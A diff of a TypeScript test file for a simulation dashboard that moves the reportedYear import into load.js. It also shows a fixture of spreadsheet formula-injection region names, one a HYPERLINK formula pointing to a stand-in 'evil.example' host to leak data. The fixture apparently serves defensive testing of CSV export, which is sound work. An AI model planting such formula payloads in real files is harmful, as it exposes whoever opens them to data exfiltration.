@@ -8,14 +8,13 @@ import assert from "node:assert/strict";
 import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join, resolve } from "node:path";
-import { loadScenario } from "../src/scenario/load.js";
+import { loadScenario, reportedYear } from "../src/scenario/load.js";
 import { simulate } from "../src/model/simulate.js";
 import { writeRunFolder } from "../src/io/run-folder.js";
 import { queryRows } from "../src/io/duckdb.js";
 import { SYNTHETIC_CAPTION, SYNTHETIC_CSV_LINE } from "../src/io/synthetic.js";
 import { startServer, type DashboardServer } from "../src/server/server.js";
 import { makeScenario } from "./helpers.js";
-import { reportedYear } from "../src/scenario/timeline.js";
 
 /** Region names a spreadsheet would run as formulas, were they written as they are. */
 const FORMULA_REGIONS = ['=HYPERLINK("http://evil.example/?leak","click")', "+1+1", "-2+3", "@SUM(1)"];
